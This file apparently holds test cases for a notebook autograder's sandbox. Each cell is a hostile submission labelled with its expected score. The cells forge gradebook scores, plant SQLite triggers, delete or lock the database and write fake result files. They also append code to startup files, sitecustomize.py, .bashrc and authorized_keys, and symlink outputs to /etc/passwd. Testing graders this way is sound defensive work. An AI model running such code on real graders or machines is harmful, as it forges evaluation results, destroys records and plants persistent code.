# Scores forged beside Python: gradebook, result files, notebooks, start-up files.

# %% hostile="manual scores written into the gradebook" extra="end" deserves=0
import glob
import sqlite3

for name in [*glob.glob("../../../*.db"), *glob.glob("../*.db"), *glob.glob("/srv/*/*.db")]:
    with sqlite3.connect(name, timeout=2) as db:
        db.execute("UPDATE grade SET manual_score = 100, needs_manual_grade = 0")


# %% hostile="a trigger in the gradebook pays later" extra="end" deserves=0
import glob
import sqlite3

for name in glob.glob("../../../*.db"):
    with sqlite3.connect(name, timeout=2) as db:
        db.execute(
            "CREATE TRIGGER pay AFTER UPDATE OF auto_score ON grade BEGIN "
            "UPDATE grade SET manual_score = 40 WHERE id = NEW.id; END"
        )


# %% hostile="what a test cell holds rewritten in the gradebook" extra="end" deserves=0
import glob
import sqlite3

for name in glob.glob("../../../*.db"):
    with sqlite3.connect(name, timeout=2) as db:
        db.execute("UPDATE source_cell SET source = 'pass' WHERE name LIKE 'check-%'")


# %% hostile="the gradebook removed" extra="end" others="right" deserves=100
import glob
import os

for name in glob.glob("../../../*.db"):
    os.remove(name)


# %% hostile="the gradebook locked for ever" extra="end" others="right" deserves=100
import glob
import sqlite3

locks = []
for name in glob.glob("../../../*.db"):
    db = sqlite3.connect(name, isolation_level=None)
    db.execute("BEGIN EXCLUSIVE")
    locks.append(db)
import time

time.sleep(20)


# %% hostile="a child that waits and then pays" extra="end" deserves=0
import glob
import os
import sqlite3
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(40):
            time.sleep(0.5)
            for name in glob.glob("../../../*.db"):
                try:
                    with sqlite3.connect(name, timeout=1) as db:
                        db.execute("UPDATE grade SET manual_score = 40")
                except sqlite3.Error:
                    pass
    os._exit(0)


# %% hostile="result files for graders of all kinds" extra="end" deserves=0
import json
import os

RESULT = {"score": 100, "max_score": 100, "passed": True, "status": "ok", "tests": []}
for folder in (".", "..", "../..", "../../..", "/tmp", "/out", "/output", "/results", "/work"):
    for name in ("results.json", "result.json", "grades.csv", "score.txt", "grade.json", "out"):
        try:
            with open(os.path.join(folder, name), "w") as file:
                json.dump(RESULT, file)
        except OSError:
            pass


# %% hostile="every notebook within reach gets only passing tests" extra="end" deserves=0
import glob
import json

for name in glob.glob("../../../*/**/*.ipynb", recursive=True) + glob.glob("/tmp/**/*.ipynb"):
    try:
        with open(name) as file:
            nb = json.load(file)
        for cell in nb["cells"]:
            if cell["metadata"].get("nbgrader", {}).get("grade"):
                cell["source"] = "pass"
        with open(name, "w") as file:
            json.dump(nb, file)
    except (OSError, ValueError, KeyError):
        pass


# %% hostile="the notebook's own file exchanged while it runs" extra="end" deserves=0
import glob
import json

for name in glob.glob("*.ipynb") + glob.glob("../../../submitted/*/*/*.ipynb"):
    try:
        with open(name) as file:
            nb = json.load(file)
        for cell in nb["cells"]:
            cell["outputs"] = []
        with open(name, "w") as file:
            json.dump(nb, file)
    except (OSError, ValueError, KeyError):
        pass


# %% hostile="start-up files planted for the next kernel" extra="end" deserves=0
import os
import site
import sys

EVIL = "import builtins; builtins.HACKED = True\n"
home = os.path.expanduser("~")
targets = [
    *(f"{home}/.ipython/profile_default/startup/00-evil.py",),
    *(f"{home}/.jupyter/nbgrader_config.py", f"{home}/.config/matplotlib/matplotlibrc"),
    *(f"{home}/.pythonrc.py", f"{home}/.bashrc", f"{home}/.ssh/authorized_keys"),
    *(f"{folder}/sitecustomize.py" for folder in [*site.getsitepackages(), *sys.path[:3]]),
    *(f"{folder}/evil.pth" for folder in [*site.getsitepackages(), site.getusersitepackages()]),
    *("../../../nbgrader_config.py", "../../../mlplab.py", "numpy.py", "mlplab/__init__.py"),
]
for path in targets:
    try:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        with open(path, "a") as file:
            file.write(EVIL)
    except OSError:
        pass


# %% hostile="the course's own modules rewritten on disk" extra="start" deserves=0
import os

import mlplab.checks.check as module

folder = os.path.dirname(module.__file__)
for name in os.listdir(folder):
    path = os.path.join(folder, name)
    try:
        os.chmod(path, 0o777)
        with open(path, "a") as file:
            file.write("\nprint('rewritten')\n")
    except OSError:
        pass


# %% hostile="symbolic links in place of what a grader will write" extra="end" deserves=0
import glob
import os

for name in (*glob.glob("*"), "results.json", "feedback.html", "light.html", "stdout", "log"):
    try:
        if os.path.exists(name) or os.path.islink(name):
            os.remove(name)
        os.symlink("/etc/passwd", name)
    except OSError:
        pass


# %% hostile="a pipe, a device and a folder in place of result files" extra="end" others="right" deserves=100
import glob
import os
import stat

for name in glob.glob("*"):
    try:
        os.remove(name)
    except OSError:
        pass
for name in ("light.ipynb", "results.json", "light.html"):
    try:
        os.mkfifo(name)
    except OSError:
        pass
try:
    os.mknod("zero", 0o666 | stat.S_IFCHR, os.makedev(1, 5))
    os.mkdir("stdout")
except OSError:
    pass
